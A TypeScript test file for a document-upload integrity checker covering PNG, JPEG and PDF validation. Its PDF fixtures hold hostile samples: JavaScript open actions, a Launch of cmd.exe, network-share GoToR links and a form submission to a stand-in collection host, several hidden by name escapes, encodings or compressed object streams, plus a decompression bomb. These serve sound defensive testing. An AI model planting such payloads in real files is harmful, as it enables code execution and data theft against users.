import { crc32, deflateSync } from 'node:zlib';
import { jpegImage } from '../../../../test/harness/images';
import { MAX_PDF_INFLATED_BYTES, checkIntegrity, checkIntegrityOf } from './integrity';

// ---------------------------------------------------------------------------------------------
// PNG, written chunk by chunk

function chunk(type: string, data: Buffer = Buffer.alloc(0), crc?: number): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const tail = Buffer.alloc(4);
  tail.writeUInt32BE(crc ?? crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, tail]);
}

function ihdr(width: number, height: number, colourType = 2, bitDepth = 8): Buffer {
  const d = Buffer.alloc(13);
  d.writeUInt32BE(width, 0);
  d.writeUInt32BE(height, 4);
  d[8] = bitDepth;
  d[9] = colourType;
  return chunk('IHDR', d);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
/** One red pixel: filter byte 0, then RGB. */
const IDAT_1X1 = chunk('IDAT', deflateSync(Buffer.from([0, 255, 0, 0])));
const IEND = chunk('IEND');

function png(...chunks: Buffer[]): Buffer {
  return Buffer.concat([PNG_SIGNATURE, ...chunks]);
}

const VALID_PNG = png(ihdr(1, 1), IDAT_1X1, IEND);

describe('checkIntegrity: PNG', () => {
  it('writes the well-known IEND CRC (anchors the CRC-32 in these tests)', () => {
    expect(IEND.subarray(8).toString('hex')).toBe('ae426082');
  });

  it('passes a valid 1 × 1 PNG', () => {
    const r = checkIntegrity(VALID_PNG, 'image/png');
    expect(r).toMatchObject({ name: 'integrity', result: 'pass', detail: { format: 'png', width: 1, height: 1 } });
    expect(r.detail.reason).toBe('A well-formed PNG of 1 × 1 pixels');
  });

  it('passes 8000 × 8000, the largest accepted', () => {
    expect(checkIntegrity(png(ihdr(8000, 8000), IDAT_1X1, IEND), 'image/png').result).toBe('pass');
  });

  it('fails a 9000 × 10 header', () => {
    const r = checkIntegrity(png(ihdr(9000, 10), IDAT_1X1, IEND), 'image/png');
    expect(r).toMatchObject({ result: 'fail', detail: { width: 9000, height: 10 } });
    expect(r.detail.reason).toBe('The image is 9000 × 10 pixels; at most 8000 × 8000 is accepted');
  });

  it('fails a zero dimension', () => {
    expect(checkIntegrity(png(ihdr(0, 10), IDAT_1X1, IEND), 'image/png').result).toBe('fail');
  });

  it('fails a bad CRC and names the chunk', () => {
    const corrupted = Buffer.from(VALID_PNG);
    corrupted[8 + 8 + 3] ^= 0x01; // a byte of the IHDR width
    const r = checkIntegrity(corrupted, 'image/png');
    expect(r.result).toBe('fail');
    expect(r.detail.reason).toMatch(/IHDR chunk at offset 8 has a bad CRC/);
    const badIdat = png(ihdr(1, 1), chunk('IDAT', deflateSync(Buffer.from([0, 1, 2, 3])), 1234), IEND);
    expect(checkIntegrity(badIdat, 'image/png').detail).toMatchObject({ chunk: 'IDAT' });
  });

  it('fails a wrong signature, a first chunk other than IHDR and an invalid IHDR', () => {
    expect(checkIntegrity(Buffer.concat([Buffer.from('GIF89a'), VALID_PNG]), 'image/png').detail.reason).toMatch(
      /PNG signature/,
    );
    expect(checkIntegrity(png(IDAT_1X1, ihdr(1, 1), IEND), 'image/png').detail.reason).toMatch(/first chunk is IDAT/);
    expect(checkIntegrity(png(ihdr(1, 1, 2, 4), IDAT_1X1, IEND), 'image/png').detail.reason).toMatch(
      /colour type 2 \/ bit depth 4/,
    );
  });

  it('fails a truncated file, and one without IEND', () => {
    expect(checkIntegrity(VALID_PNG.subarray(0, VALID_PNG.length - 5), 'image/png').result).toBe('fail');
    expect(checkIntegrity(png(ihdr(1, 1), IDAT_1X1), 'image/png').detail.reason).toMatch(/no IEND/);
  });

  it('fails data after IEND', () => {
    const r = checkIntegrity(Buffer.concat([VALID_PNG, Buffer.from('%PDF-1.7 hidden')]), 'image/png');
    expect(r).toMatchObject({ result: 'fail', detail: { trailingBytes: 15 } });
  });

  it('fails a PNG without image data, a palette image without PLTE and an unknown critical chunk', () => {
    expect(checkIntegrity(png(ihdr(1, 1), IEND), 'image/png').detail.reason).toMatch(/no image data/);
    expect(checkIntegrity(png(ihdr(1, 1, 3, 8), IDAT_1X1, IEND), 'image/png').detail.reason).toMatch(/no PLTE/);
    expect(
      checkIntegrity(png(ihdr(1, 1), chunk('ZZZZ', Buffer.from('x')), IDAT_1X1, IEND), 'image/png').detail.reason,
    ).toMatch(/unknown critical chunk ZZZZ/);
  });

  it('skips unknown ancillary chunks', () => {
    expect(
      checkIntegrity(png(ihdr(1, 1), chunk('tEXt', Buffer.from('Comment\0hi')), IDAT_1X1, IEND), 'image/png').result,
    ).toBe('pass');
  });
});

// ---------------------------------------------------------------------------------------------
// JPEG

function segment(marker: number, payload: number[]): number[] {
  const length = payload.length + 2;
  return [0xff, marker, length >> 8, length & 0xff, ...payload];
}

const jpeg = jpegImage;

describe('checkIntegrity: JPEG', () => {
  it('passes a valid 1 × 1 baseline JPEG', () => {
    const r = checkIntegrity(jpeg(), 'image/jpeg');
    expect(r).toMatchObject({
      result: 'pass',
      detail: { format: 'jpeg', width: 1, height: 1, sof: '0xc0', scans: 1, trailingBytes: 0 },
    });
  });

  it('fails 8001 pixels wide, and a height of 0', () => {
    expect(checkIntegrity(jpeg(8001, 1), 'image/jpeg')).toMatchObject({ result: 'fail', detail: { width: 8001 } });
    expect(checkIntegrity(jpeg(1, 0), 'image/jpeg').result).toBe('fail');
  });

  it('fails without EOI (cut short)', () => {
    expect(checkIntegrity(jpeg(1, 1, { eoi: false }), 'image/jpeg').detail.reason).toMatch(/no end-of-image marker/);
    const full = jpeg();
    expect(checkIntegrity(full.subarray(0, 40), 'image/jpeg').result).toBe('fail');
  });

  it('fails without SOI, and a PNG labelled as JPEG', () => {
    expect(checkIntegrity(jpeg().subarray(2), 'image/jpeg').detail.reason).toMatch(/start-of-image/);
    expect(checkIntegrity(VALID_PNG, 'image/jpeg').result).toBe('fail');
  });

  it('fails a JPEG with no frame header', () => {
    const noFrame = Buffer.from([0xff, 0xd8, ...segment(0xfe, [0x68, 0x69]), 0xff, 0xd9]);
    expect(checkIntegrity(noFrame, 'image/jpeg').detail.reason).toMatch(/without a frame header/);
  });

  it('reads through stuffed bytes and restart markers in the scan data, and notes bytes after EOI', () => {
    const body = jpeg();
    const withEntropy = Buffer.concat([
      body.subarray(0, body.length - 3),
      Buffer.from([0xff, 0x00, 0x12, 0xff, 0xd0, 0x34]),
      body.subarray(body.length - 3),
    ]);
    expect(checkIntegrity(withEntropy, 'image/jpeg').result).toBe('pass');
    const trailed = checkIntegrity(Buffer.concat([body, Buffer.from('motion photo')]), 'image/jpeg');
    expect(trailed).toMatchObject({ result: 'pass', detail: { trailingBytes: 12 } });
  });
});

// ---------------------------------------------------------------------------------------------
// PDF, with a correct cross-reference table

type Part = string | Buffer;

function pdf(objects: Part[][], { trailer = '', version = '1.7' } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`, 'latin1')];
  let size = parts[0].length;
  const offsets: number[] = [];
  objects.forEach((obj, i) => {
    offsets.push(size);
    const buf = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      ...obj.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : p)),
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(buf);
    size += buf.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
  ].join('\n');
  parts.push(
    Buffer.from(
      `${xref}\ntrailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${size}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

function stream(dict: string, data: Buffer): Part[] {
  return [`<< ${dict} /Length ${data.length} >>\nstream\n`, data, '\nendstream'];
}

/** ASCII85 (Adobe), to hide text from a plain search. */
function ascii85(text: string): string {
  const bytes = Buffer.from(text, 'latin1');
  let out = '<~';
  for (let i = 0; i < bytes.length; i += 4) {
    const group = bytes.subarray(i, i + 4);
    const padded = Buffer.concat([group, Buffer.alloc(4 - group.length)]);
    let n = padded.readUInt32BE(0);
    const digits: string[] = [];
    for (let k = 0; k < 5; k++) {
      digits.unshift(String.fromCharCode(33 + (n % 85)));
      n = Math.floor(n / 85);
    }
    out += digits.slice(0, group.length + 1).join('');
  }
  return `${out}~>`;
}

const CONTENT = Buffer.from('BT /F1 24 Tf 72 720 Td (Certificate of incorporation) Tj ET');

function document(catalogExtra = '', extraObjects: Part[][] = [], trailer = ''): Buffer {
  return pdf(
    [
      [`<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`],
      ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
      [
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
      ],
      stream('/Filter /FlateDecode', deflateSync(CONTENT)),
      ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
      ...extraObjects,
    ],
    { trailer },
  );
}

describe('checkIntegrity: PDF', () => {
  it('has a test ASCII85 encoder that agrees with the published example', () => {
    expect(ascii85('Man ')).toBe('<~9jqo^~>');
    expect(ascii85('Man is distinguished')).toBe('<~9jqo^BlbD-BleB1DJ+*+F(f,q~>');
  });

  it('passes a clean PDF, inspecting its compressed content stream', () => {
    const r = checkIntegrity(document(), 'application/pdf');
    expect(r).toMatchObject({
      result: 'pass',
      detail: { format: 'pdf', pdfVersion: '1.7', streams: 1, streamsInspected: 1, inflatedBytes: CONTENT.length },
    });
    expect(r.detail.reason).toBe('A well-formed PDF 1.7, not encrypted, with no active content found');
  });

  it('accepts PDF 2.0 and 1.0 headers and fails other headers', () => {
    expect(checkIntegrity(pdf([['<< /Type /Catalog >>']], { version: '2.0' }), 'application/pdf').result).toBe('pass');
    expect(checkIntegrity(pdf([['<< /Type /Catalog >>']], { version: '1.0' }), 'application/pdf').result).toBe('pass');
    expect(
      checkIntegrity(pdf([['<< /Type /Catalog >>']], { version: '3.0' }), 'application/pdf').detail.reason,
    ).toMatch(/PDF header/);
    expect(checkIntegrity(Buffer.concat([Buffer.from('junk'), document()]), 'application/pdf').result).toBe('fail');
  });

  it('fails a PDF without %%EOF or startxref (cut short)', () => {
    const full = document();
    expect(checkIntegrity(full.subarray(0, full.length - 7), 'application/pdf').detail.reason).toMatch(/no %%EOF/);
    const noXref = Buffer.from(full.toString('latin1').replace('startxref', 'startxrex'), 'latin1');
    expect(checkIntegrity(noXref, 'application/pdf').detail.reason).toMatch(/no startxref/);
    const farXref = Buffer.from(full.toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999999'), 'latin1');
    expect(checkIntegrity(farXref, 'application/pdf').detail.reason).toMatch(/past the end/);
  });

  it('fails /OpenAction with a JavaScript action, naming the features', () => {
    const r = checkIntegrity(document('/OpenAction << /S /JavaScript /JS (app.alert(1)) >> '), 'application/pdf');
    expect(r.result).toBe('fail');
    expect(r.detail.activeContent).toEqual(['OpenAction', 'JavaScript', 'JS']);
    expect(r.detail.reason).toMatch(
      /^The PDF holds active content: \/OpenAction \(an action run when the document opens\) in the document structure; \/JavaScript \(JavaScript\)/,
    );
  });

  it('sees through #xx escapes in names (/J#61vaScript)', () => {
    const r = checkIntegrity(
      document('/Names << /J#61vaScript 6 0 R >> ', [
        ['<< /Names [(x) 7 0 R] >>'],
        ['<< /S /JavaScr#69pt /J#53 (app.alert(1)) >>'],
      ]),
      'application/pdf',
    );
    expect(r.result).toBe('fail');
    expect(r.detail.activeContent).toEqual(['JavaScript', 'JS']);
  });

  it('fails JavaScript hidden in a Flate object stream', () => {
    const objects = Buffer.from('6 0 << /S /JavaScript /JS (app.alert(1)) >>');
    const r = checkIntegrity(
      document('/OpenAction 6 0 R ', [
        stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(objects)),
      ]),
      'application/pdf',
    );
    expect(r.result).toBe('fail');
    expect(r.detail.activeContent).toEqual(['OpenAction', 'JavaScript', 'JS']);
    expect(r.detail.reason).toMatch(/\/JavaScript \(JavaScript\) in a FlateDecode stream at offset \d+/);
  });

  it('fails JavaScript in any inspected Flate stream, even behind an escaped filter name or a filter chain', () => {
    const hidden = Buffer.from('/AA << /O << /S /JavaScript /JS (x) >> >>');
    const escaped = document('', [stream('/Filter /Fl#61teDecode', deflateSync(hidden))]);
    expect(checkIntegrity(escaped, 'application/pdf').detail.activeContent).toEqual(['AA', 'JavaScript', 'JS']);
    const chain = document('', [
      stream('/Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from(deflateSync(hidden).toString('hex') + '>')),
    ]);
    expect(checkIntegrity(chain, 'application/pdf').result).toBe('fail');
    const a85 = document('', [stream('/Filter /ASCII85Decode', Buffer.from(ascii85('<< /S /Launch /F (x) >>')))]);
    expect(checkIntegrity(a85, 'application/pdf').detail.activeContent).toEqual(['Launch']);
  });

  it('fails an encrypted PDF', () => {
    const r = checkIntegrity(
      document('', [['<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>']], '/Encrypt 6 0 R /ID [<01> <01>] '),
      'application/pdf',
    );
    expect(r).toMatchObject({ result: 'fail', detail: { encrypted: true } });
    expect(r.detail.reason).toMatch(/encrypted/);
  });

  it.each([
    ['/Launch', '/OpenAction << /S /Launch /F (calc.exe) >> '],
    ['/EmbeddedFiles', '/Names << /EmbeddedFiles 6 0 R >> '],
    ['/XFA', '/AcroForm << /Fields [] /XFA 6 0 R >> '],
    ['/RichMedia', '/RichMedia 6 0 R '],
    ['/AA', '/AA << /WC 6 0 R >> '],
  ])('fails %s', (name, extra) => {
    const r = checkIntegrity(document(extra, [['<< >>']]), 'application/pdf');
    expect(r.result).toBe('fail');
    expect(r.detail.activeContent).toContain(name.slice(1));
  });

  it('passes /OpenAction to a page destination (what office suites write), counting it', () => {
    const r = checkIntegrity(document('/OpenAction [3 0 R /XYZ null null 0] '), 'application/pdf');
    expect(r).toMatchObject({ result: 'pass', detail: { openActionDestinations: 1 } });
  });

  it('does not read names out of image data', () => {
    const r = checkIntegrity(
      document('', [
        stream(
          '/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode',
          Buffer.from('\xff\xd8 /JS /AA \xff\xd9', 'latin1'),
        ),
      ]),
      'application/pdf',
    );
    expect(r.result).toBe('pass');
  });

  it('still inspects an object stream that claims to be an image', () => {
    const r = checkIntegrity(
      document('', [
        stream('/Type /ObjStm /Subtype /Image /Filter /FlateDecode', deflateSync(Buffer.from('<< /JS (x) >>'))),
      ]),
      'application/pdf',
    );
    expect(r.result).toBe('fail');
  });

  it('fails a Flate stream that does not decode', () => {
    const r = checkIntegrity(
      document('', [stream('/Filter /FlateDecode', Buffer.from('definitely not zlib data'))]),
      'application/pdf',
    );
    expect(r.result).toBe('fail');
    expect(r.detail.reason).toMatch(/does not decode/);
  });

  it('stops inflating at the limit (decompression bomb)', () => {
    const bomb = deflateSync(Buffer.alloc(MAX_PDF_INFLATED_BYTES + 1024));
    const r = checkIntegrity(document('', [stream('/Filter /FlateDecode', bomb)]), 'application/pdf');
    expect(r).toMatchObject({ result: 'fail', detail: { inflateLimit: MAX_PDF_INFLATED_BYTES } });
  });

  it('warns about a stream whose filter it cannot read', () => {
    const r = checkIntegrity(
      document('', [stream('/Filter /LZWDecode', Buffer.from([0x80, 0x0b, 0x60, 0x50]))]),
      'application/pdf',
    );
    expect(r.result).toBe('warn');
    expect(r.detail.reason).toMatch(/LZWDecode filter, which this check cannot read/);
  });

  it('finds the stream end when /Length is an indirect reference', () => {
    const objects = Buffer.from('<< /JS (x) >>');
    const r = checkIntegrity(
      document('', [
        ['<< /Filter /FlateDecode /Length 7 0 R >>\nstream\n', deflateSync(objects), '\nendstream'],
        ['42'],
      ]),
      'application/pdf',
    );
    expect(r).toMatchObject({ result: 'fail', detail: { activeContent: ['JS'] } });
  });
});

describe('checkIntegrity: PDF actions', () => {
  /** A page with a link annotation running `action`, the way a link is written (ISO 32000-2, 12.5.6.5). */
  const linked = (action: string, extra: Part[][] = []) =>
    document('', [['<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /F 4 /A ' + action + ' >>'], ...extra]);

  it('fails a link that opens a file on a network share with /GoToR (the issue), naming the target', () => {
    // In PDF syntax `\\\\` is one backslash: the target is \\198.51.100.7\share\x.pdf.
    const unc = '(\\\\\\\\198.51.100.7\\\\share\\\\x.pdf)';
    const r = checkIntegrity(linked(`<< /S /GoToR /F ${unc} /D [0 /Fit] >>`), 'application/pdf');
    expect(r).toMatchObject({ result: 'fail', detail: { activeContent: ['GoToR'] } });
    const target = JSON.stringify('\\\\198.51.100.7\\share\\x.pdf');
    expect(r.detail.reason).toContain(`/GoToR (opens another file (a path or network share) to ${target})`);
  });

  it('fails /GoToR behind an escaped name, in a file specification dictionary, and inside an object stream', () => {
    const escaped = linked('<< /#53/GoT#6fR /F << /Type /Filespec /UF (//198.51.100.7/share/x.pdf) >> >>');
    expect(checkIntegrity(escaped, 'application/pdf').detail.activeContent).toEqual(['GoToR']);
    const hidden = Buffer.from('6 0 << /S /GoToR /F (\\\\\\\\evil\\\\s\\\\a.pdf) >>');
    const objStm = document('', [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(hidden))]);
    const r = checkIntegrity(objStm, 'application/pdf');
    expect(r).toMatchObject({ result: 'fail', detail: { activeContent: ['GoToR'] } });
    expect(r.detail.reason).toMatch(/in a FlateDecode stream at offset \d+/);
  });

  it.each([
    ['UNC path', '(\\\\\\\\198.51.100.7\\\\share\\\\x.pdf)', 'a link to a file or network share'],
    ['file: URL', '(file:///C:/Windows/System32/calc.exe)', 'a link to a file or network share'],
    ['file: URL as a hex string', '<66696c653a2f2f2f6574632f706173737764>', 'a link to a file or network share'],
    ['smb: URL written with octal escapes', '(\\163mb://198.51.100.7/share)', 'a link to a file or network share'],
    ['javascript: URL', '(javascript:alert\\(1\\))', 'a link that is not to a web or mail address'],
  ])('fails a /URI link to a %s', (_name, target, feature) => {
    const r = checkIntegrity(linked(`<< /S /URI /URI ${target} >>`), 'application/pdf');
    expect(r).toMatchObject({ result: 'fail', detail: { activeContent: ['URI'] } });
    expect(r.detail.reason).toContain(feature);
  });

  it('passes web and mail links and lists them for the reviewer', () => {
    const web = 'https://find-and-update.company-information.service.gov.uk/';
    const mail = 'mailto:help@example.com';
    const links = linked(`<< /S /URI /URI (${web}) >>`, [[`<< /S /URI /URI (${mail}) >>`]]);
    const r = checkIntegrity(links, 'application/pdf');
    expect(r).toMatchObject({ result: 'pass', detail: { links: [web, mail] } });
    expect(r.detail.reason).toMatch(/it links to 2 web or mail addresses \(https:\/\/find-and-update/);
  });

  it('fails a /Launch action however its type is written, including one with only a /Win dictionary', () => {
    const launch = linked('<< /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >>');
    const escaped = checkIntegrity(launch, 'application/pdf');
    expect(escaped).toMatchObject({ result: 'fail', detail: { activeContent: ['Launch', 'Win'] } });
    expect(escaped.detail.reason).toContain('to "cmd.exe"');
    const indirectType = checkIntegrity(linked('<< /S 7 0 R /Win << /F (cmd.exe) >> >>'), 'application/pdf');
    expect(indirectType).toMatchObject({ result: 'fail', detail: { activeContent: ['Win'] } });
  });

  // Every action type of ISO 32000-2 Table 201, with the decision of pdf-actions.ts.
  it.each([
    ['GoTo', '<< /S /GoTo /D [3 0 R /Fit] >>', 'pass'],
    ['GoToDp', '<< /S /GoToDp /Dp 9 0 R >>', 'pass'],
    ['Thread (this document)', '<< /S /Thread /D 0 >>', 'pass'],
    ['Thread (an inline thread of this document)', '<< /S /Thread /D << /Type /Thread /F 9 0 R >> >>', 'pass'],
    ['Named NextPage', '<< /S /Named /N /NextPage >>', 'pass'],
    ['Hide', '<< /S /Hide /T (field) /H true >>', 'pass'],
    ['ResetForm', '<< /S /ResetForm >>', 'pass'],
    ['SetOCGState', '<< /S /SetOCGState /State [/OFF 9 0 R] >>', 'pass'],
    ['Trans', '<< /S /Trans /Trans << /S /Dissolve >> >>', 'pass'],
    ['GoTo3DView', '<< /S /GoTo3DView /TA 9 0 R /V /F >>', 'pass'],
    ['URI', '<< /S /URI /URI (https://example.com/) >>', 'pass'],
    ['GoToR', '<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>', 'fail'],
    ['GoToE', '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>', 'fail'],
    ['Thread (another file)', '<< /S /Thread /F (other.pdf) /D 0 >>', 'fail'],
    ['Named Print (a viewer menu command)', '<< /S /Named /N /Print >>', 'fail'],
    ['Launch', '<< /S /Launch /F (calc.exe) >>', 'fail'],
    ['Sound', '<< /S /Sound /Sound 9 0 R >>', 'fail'],
    ['Movie', '<< /S /Movie /T (clip) >>', 'fail'],
    ['SubmitForm', '<< /S /SubmitForm /F << /FS /URL /F (https://198.51.100.7/collect) >> >>', 'fail'],
    ['ImportData', '<< /S /ImportData /F (data.fdf) >>', 'fail'],
    ['JavaScript', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>', 'fail'],
    ['Rendition', '<< /S /Rendition /OP 0 /AN 9 0 R >>', 'fail'],
    ['RichMediaExecute', '<< /S /RichMediaExecute /TA 9 0 R /CMD << >> >>', 'fail'],
  ])('judges a link running %s: %s', (_name, action, result) => {
    const r = checkIntegrity(linked(action), 'application/pdf');
    expect(r.result).toBe(result);
    if (result === 'pass' && !action.includes('/URI')) expect(r.detail.navigationActions).toBeGreaterThanOrEqual(1);
    if (action.includes('/URI')) expect(r.detail.links).toEqual(['https://example.com/']);
  });

  it('does not take page-label and structure styles (/S /D, /S /P) for actions', () => {
    const labelled = document('/PageLabels << /Nums [0 << /S /D >>] >> ', [['<< /Type /StructElem /S /P >>']]);
    const r = checkIntegrity(labelled, 'application/pdf');
    expect(r).toMatchObject({ result: 'pass', detail: { navigationActions: 0 } });
  });
});

describe('checkIntegrity: types', () => {
  it('fails a type it does not accept', () => {
    expect(checkIntegrity(VALID_PNG, 'image/gif')).toMatchObject({
      result: 'fail',
      detail: { reason: expect.stringContaining('"image/gif" are not accepted') },
    });
  });

  it('reads the type case-insensitively', () => {
    expect(checkIntegrity(VALID_PNG, 'Image/PNG').result).toBe('pass');
  });
});

describe('checkIntegrityOf (stream of chunks)', () => {
  async function* chunks(b: Buffer, size: number): AsyncGenerator<Buffer> {
    for (let i = 0; i < b.length; i += size) yield b.subarray(i, i + size);
  }

  it('checks the bytes of a stream like those of a buffer', async () => {
    await expect(checkIntegrityOf(chunks(document(), 17), 'application/pdf')).resolves.toMatchObject({
      result: 'pass',
    });
    await expect(checkIntegrityOf(VALID_PNG, 'image/png')).resolves.toMatchObject({ result: 'pass' });
  });

  it('stops reading past the size limit', async () => {
    await expect(checkIntegrityOf(chunks(VALID_PNG, 10), 'image/png', 20)).resolves.toMatchObject({
      result: 'fail',
      detail: { reason: expect.stringContaining('larger than the 20 bytes') },
    });
  });

  it('lets a read error propagate so the job is retried', async () => {
    async function* broken(): AsyncGenerator<Buffer> {
      yield Buffer.from('%PDF');
      throw new Error('storage unavailable');
    }
    await expect(checkIntegrityOf(broken(), 'application/pdf')).rejects.toThrow('storage unavailable');
  });
});
